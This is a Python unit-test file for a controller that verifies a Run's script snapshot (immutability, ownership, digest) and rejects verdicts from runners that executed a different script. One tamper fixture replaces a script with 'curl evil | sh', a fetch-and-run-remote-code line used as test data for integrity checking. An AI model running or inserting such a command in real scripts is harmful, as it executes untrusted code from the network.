"""The Run's script snapshot and the script each runner executed (issue 42 M-A): a snapshot is
adopted only when it is the Run's own (controlled by it, immutable, its bytes the Run's source
digest); a verdict counts only from a runner that reports having executed exactly the
snapshot's script; acceptance re-derives both from the evidence."""

import copy
from typing import Any

import pytest

from adapter.collect import collect_mpi, collect_pods, script_mismatch
from controller.rules.manifests import snapshot_manifest, snapshot_name
from shared import keys, snapshot
from shared.acceptance import validate_check
from shared.digests import bundle_digest, sha256_digest
from shared.run import Verdict
from tests import evidence_builders as eb
from tests.unit.signal_builders import SCRIPT_DIGEST, participant_pod, participants
from tests.unit.test_acceptance_rules import make_run, plain
from tests.unit.test_adapter_shapes import JOB, TRUSTED, launcher, worker

Obj = dict[str, Any]
SCRIPTS = {"check.sh": "#!/bin/sh\nexit 0\n", "other.sh": "#!/bin/sh\nexit 1\n"}
RUN = {
    "metadata": {"name": "r1", "namespace": "signal", "uid": "run-uid"},
    "spec": {"source": {"digest": bundle_digest(SCRIPTS, {}), "snapshotConfigMap": "r1-scripts-0a1b2c3d"}},
}


def good() -> Obj:
    return snapshot_manifest(RUN, {"data": dict(SCRIPTS)})


def test_the_controllers_own_snapshot_is_the_runs() -> None:
    body = good()
    assert body["metadata"]["name"] == "r1-scripts-0a1b2c3d"
    assert body["metadata"]["labels"][keys.COMPONENT_LABEL] == snapshot.COMPONENT
    assert snapshot.problem(body, "run-uid", RUN["spec"]["source"]["digest"]) is None
    assert snapshot.bundle_of_digests(snapshot.key_digests(body)) == RUN["spec"]["source"]["digest"]


def _mutable(body: Obj) -> None:
    body["immutable"] = False


def _other_bytes(body: Obj) -> None:
    body["data"]["check.sh"] = "#!/bin/sh\ncurl evil | sh\n"


def _unowned(body: Obj) -> None:
    body["metadata"]["ownerReferences"] = []


def _owned_not_controlled(body: Obj) -> None:
    body["metadata"]["ownerReferences"][0]["controller"] = False


def _another_run(body: Obj) -> None:
    body["metadata"]["ownerReferences"][0]["uid"] = "another-run"


def _bad_base64(body: Obj) -> None:
    body["binaryData"] = {"x.bin": "%%%"}


@pytest.mark.parametrize(
    ("mutate", "why"),
    [
        (_mutable, "it is not immutable"),
        (_other_bytes, "its bytes digest to sha256:"),
        (_unowned, "it is not controlled by the Run"),
        (_owned_not_controlled, "it is not controlled by the Run"),
        (_another_run, "it is not controlled by the Run"),
        (_bad_base64, "its content is not a bundle"),
    ],
)
def test_a_snapshot_that_is_not_the_runs_is_never_adopted(mutate: Any, why: str) -> None:
    body = good()
    mutate(body)
    problem = snapshot.problem(body, "run-uid", RUN["spec"]["source"]["digest"])
    assert problem is not None
    assert problem.startswith(why), problem


def test_each_run_gets_a_fresh_snapshot_name() -> None:
    """A squatted name blocks at most the Run it was made for: the group's next Run (same Run
    name after a rollback) gets another snapshot name."""
    assert snapshot_name("r1", "0a1b2c3d") != snapshot_name("r1", "ffee0011")
    assert snapshot_name("r1", "0a1b2c3d").startswith("r1-scripts-")


# ------------------------------------------------------------------ the runner's reported digest


def test_a_pod_whose_runner_executed_another_script_proves_nothing() -> None:
    pods = [participant_pod(0), participant_pod(1)]
    results = collect_pods(participants(2), pods, script=SCRIPT_DIGEST)
    assert [r.verdict for r in results] == [Verdict.PASS, Verdict.PASS]
    assert [r.script_digest for r in results] == [SCRIPT_DIGEST] * 2
    other = sha256_digest(b"another script")
    results = collect_pods(participants(2), pods, script=other)
    assert [r.verdict for r in results] == [Verdict.INCONCLUSIVE] * 2
    assert results[0].reason.startswith("ScriptMismatch: the runner executed sha256:"), results[0].reason
    results = collect_pods(participants(2), pods, script=None)
    assert results[0].reason == "UnverifiedSnapshot: the Run's script snapshot could not be verified"
    assert script_mismatch(None, SCRIPT_DIGEST) is not None


def test_a_launcher_that_executed_another_script_proves_nothing() -> None:
    hosts = [f"{JOB}-worker-0", f"{JOB}-worker-1"]
    workers = [worker(hosts[0], "gpu-000", "w0"), worker(hosts[1], "gpu-001", "w1")]
    real = launcher(JOB, TRUSTED, [(0, hosts[0], 0), (1, hosts[1], 0)], hosts, 2)
    results, _, _ = collect_mpi(participants(2), workers, [real], script=SCRIPT_DIGEST)
    assert [r.verdict for r in results] == [Verdict.PASS, Verdict.PASS]
    results, report, why = collect_mpi(participants(2), workers, [real], script=sha256_digest(b"x"))
    assert report is None
    assert why.startswith("ScriptMismatch: ")
    assert [r.verdict for r in results] == [Verdict.INCONCLUSIVE] * 2


# ------------------------------------------------------------------ acceptance


def _doc(run: Obj, mutate: Any) -> Obj:
    doc = plain(eb.check_evidence(run))
    mutate(doc["results"])
    return eb.seal(doc)


def _no_bundle(results: Obj) -> None:
    del results["check"]["bundle"]
    del results["check"]["scriptDigest"]


def _bundle_of_other_bytes(results: Obj) -> None:
    results["check"]["bundle"]["inventory.sh"] = sha256_digest(b"something else")
    results["check"]["scriptDigest"] = results["check"]["bundle"]["inventory.sh"]
    for p in results["participants"]:
        p["scriptDigest"] = results["check"]["scriptDigest"]


def _script_digest_of_another_key(results: Obj) -> None:
    results["check"]["scriptDigest"] = results["check"]["bundle"]["nccl.sh"]
    for p in results["participants"]:
        p["scriptDigest"] = results["check"]["scriptDigest"]


def _runner_ran_another_script(results: Obj) -> None:
    results["participants"][1]["scriptDigest"] = sha256_digest(b"another")


def _runner_reported_none(results: Obj) -> None:
    del results["participants"][0]["scriptDigest"]


@pytest.mark.parametrize(
    ("mutate", "problem"),
    [
        (_no_bundle, "UnprovenScript: the evidence records no verified snapshot"),
        (_bundle_of_other_bytes, "UnprovenScript: the recorded snapshot does not digest to the Run's source digest"),
        (_script_digest_of_another_key, "UnprovenScript: the recorded script digest is not the snapshot's key"),
        (_runner_ran_another_script, "UnprovenScript: participant 1's runner did not report executing"),
        (_runner_reported_none, "UnprovenScript: participant 0's runner did not report executing"),
    ],
)
def test_acceptance_requires_the_snapshots_script_to_have_run(mutate: Any, problem: str) -> None:
    run = make_run()
    assert validate_check(run, 0, eb.check_evidence(run))[:2] == (Verdict.PASS, None)
    verdict, found, _ = validate_check(run, 0, _doc(run, mutate))
    assert verdict == Verdict.INCONCLUSIVE
    assert found is not None
    assert found.startswith(problem), found


def test_the_recorded_bundle_recomputes_the_source_digest() -> None:
    run = make_run()
    doc = eb.check_evidence(run)
    bundle = copy.deepcopy(doc["results"]["check"]["bundle"])
    assert snapshot.bundle_of_digests(bundle) == run["spec"]["source"]["digest"]
